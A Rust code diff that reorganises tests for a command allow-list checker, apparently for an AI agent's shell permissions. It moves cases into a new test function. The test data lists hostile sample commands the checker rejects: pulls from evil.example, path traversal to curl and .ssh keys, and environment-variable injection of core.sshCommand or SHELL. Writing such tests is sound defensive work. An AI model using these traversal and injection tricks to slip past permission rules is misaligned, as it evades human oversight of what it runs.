@@ -179,7 +179,7 @@ pub(super) fn says_what_runs(pattern: &str, command: &str) -> bool {
             let is_known = !(transfers && program.names.contains(&"git"))
                 || has_known_remote(&literal_words[2..], arguments);
             let clones = ["git", "gh"].iter().any(|name| program.names.contains(name));
-            let is_beside = !clones || clones_beside(&literal_words, arguments);
+            let is_beside = !clones || clones_beside(literal_words, arguments);
             named && is_known && is_beside && arguments.iter().all(|word| program.allows(word))
         }
     }
@@ -292,9 +292,57 @@ impl Program {
 mod tests {
     use super::*;
 
+    fn check(cases: &[(&str, &str, bool)]) {
+        for (pattern, command, expected) in cases {
+            assert_eq!(says_what_runs(pattern, command), *expected, "{pattern}: {command}");
+        }
+    }
+
+    #[test]
+    fn repositories_paths_and_variables() {
+        check(&[
+            // Files of another repository can be hooks, too.
+            ("git pull:*", "git pull", true),
+            ("git pull:*", "git pull --prune -q", true),
+            ("git pull:*", "git pull https://evil.example/x main", false),
+            ("git pull:*", "git pull origin main", false),
+            ("git pull origin:*", "git pull origin main", true),
+            ("git fetch:*", "git fetch --all --prune", true),
+            ("git fetch:*", "git fetch https://evil.example/x main", false),
+            ("git fetch --quiet:*", "git fetch --quiet evil@evil.example:x", false),
+            ("git fetch origin:*", "git fetch origin main", true),
+            // A path that the wildcard continues stays in its directory.
+            ("./scripts/*", "./scripts/a.sh ../data", true),
+            ("./scripts/*", "./scripts/a/b.sh", true),
+            ("./scripts/*", "./scripts/../../../usr/bin/curl -o x", false),
+            ("./scripts/*", "./scripts/'..'/x", false),
+            ("./scripts/*", "./scripts/.?/x", false),
+            ("scripts/*:*", "scripts/x/../../vendor/evil.sh", false),
+            ("scripts/*:*", "scripts/a.sh *.txt", true),
+            ("docs/* build", "docs/../vendor/evil build", false),
+            ("cat docs/*", "cat docs/a.md", true),
+            ("cat docs/*", "cat docs/../../.ssh/id", false),
+            ("s*", "scripts/../vendor/evil", false),
+            ("cat:*", "cat ../a", true),
+            // Variables before the program.
+            ("GIT_PAGER=cat git diff:*", "GIT_PAGER=cat git diff --stat", true),
+            ("GIT_PAGER=cat git diff:*", "GIT_PAGER=cat git diff --ext-diff", false),
+            ("CI=1 npm test:*", "CI=1 npm test --script-shell=/tmp/evil", false),
+            ("A=1 B+=2 python3 -c:*", "A=1 B+=2 python3 -c evil", false),
+            ("GIT_EDITOR=true git *", "GIT_EDITOR=true git -c core.sshCommand=evil fetch", false),
+            ("GIT_EDITOR=true git rebase:*", "GIT_EDITOR=true git rebase main", true),
+            ("NODE_ENV=test make:*", "NODE_ENV=test make SHELL=/tmp/evil x", false),
+            ("LOGDIR=*", "LOGDIR=x curl -o y", false),
+            ("A=1 *", "A=1 PATH=. ls", false),
+            ("A=1 ./scripts/*", "A=1 ./scripts/a.sh", true),
+            ("A=1 ./scripts/*", "A=1 ./scripts/../x", false),
+            ("A=1 s*", "A=1 s/../x", false),
+        ]);
+    }
+
     #[test]
     fn a_wildcard_grants_no_argument_that_runs_a_program() {
-        for (pattern, command, expected) in [
+        check(&[
             // There is no wildcard, or the program can't run anything else.
             ("git -c a=b log", "git -c a=b log", true),
             ("ls:*", "ls -l --color", true),
@@ -322,16 +370,6 @@ mod tests {
             ("git push:*", "git push --quiet evil origin", false),
             ("git push --quiet:*", "git push --quiet evil", false),
             ("git push backup:*", "git push backup main", true),
-            // Files of another repository can be hooks, too.
-            ("git pull:*", "git pull", true),
-            ("git pull:*", "git pull --prune -q", true),
-            ("git pull:*", "git pull https://evil.example/x main", false),
-            ("git pull:*", "git pull origin main", false),
-            ("git pull origin:*", "git pull origin main", true),
-            ("git fetch:*", "git fetch --all --prune", true),
-            ("git fetch:*", "git fetch https://evil.example/x main", false),
-            ("git fetch --quiet:*", "git fetch --quiet evil@evil.example:x", false),
-            ("git fetch origin:*", "git fetch origin main", true),
             ("git status", "git status", true),
             ("git sta*", "git status", false),
             ("git:*", "git status", false),
@@ -407,32 +445,6 @@ mod tests {
             ("find:*", "find src -delete", false),
             ("rg:*", "rg -n --hidden words src", true),
             ("rg:*", "rg --pre evil words", false),
-            // A path that the wildcard continues stays in its directory.
-            ("./scripts/*", "./scripts/a.sh ../data", true),
-            ("./scripts/*", "./scripts/a/b.sh", true),
-            ("./scripts/*", "./scripts/../../../usr/bin/curl -o x", false),
-            ("./scripts/*", "./scripts/'..'/x", false),
-            ("./scripts/*", "./scripts/.?/x", false),
-            ("scripts/*:*", "scripts/x/../../vendor/evil.sh", false),
-            ("scripts/*:*", "scripts/a.sh *.txt", true),
-            ("docs/* build", "docs/../vendor/evil build", false),
-            ("cat docs/*", "cat docs/a.md", true),
-            ("cat docs/*", "cat docs/../../.ssh/id", false),
-            ("s*", "scripts/../vendor/evil", false),
-            ("cat:*", "cat ../a", true),
-            // Variables before the program.
-            ("GIT_PAGER=cat git diff:*", "GIT_PAGER=cat git diff --stat", true),
-            ("GIT_PAGER=cat git diff:*", "GIT_PAGER=cat git diff --ext-diff", false),
-            ("CI=1 npm test:*", "CI=1 npm test --script-shell=/tmp/evil", false),
-            ("A=1 B+=2 python3 -c:*", "A=1 B+=2 python3 -c evil", false),
-            ("GIT_EDITOR=true git *", "GIT_EDITOR=true git -c core.sshCommand=evil fetch", false),
-            ("GIT_EDITOR=true git rebase:*", "GIT_EDITOR=true git rebase main", true),
-            ("NODE_ENV=test make:*", "NODE_ENV=test make SHELL=/tmp/evil x", false),
-            ("LOGDIR=*", "LOGDIR=x curl -o y", false),
-            ("A=1 *", "A=1 PATH=. ls", false),
-            ("A=1 ./scripts/*", "A=1 ./scripts/a.sh", true),
-            ("A=1 ./scripts/*", "A=1 ./scripts/../x", false),
-            ("A=1 s*", "A=1 s/../x", false),
             // We should always ask the user about these programs.
             ("tar xf:*", "tar xf a.tar", false),
             ("tar xf:*", "tar xf a.tar -C src", false),
@@ -464,8 +476,6 @@ mod tests {
             ("node a.js:*", "node a.js --require evil", true),
             ("/usr/bin/python3:*", "/usr/bin/python3 evil.py", false),
             ("npx eslint:*", "npx eslint src", true),
-        ] {
-            assert_eq!(says_what_runs(pattern, command), expected, "{pattern}: {command}");
-        }
+        ]);
     }
 }
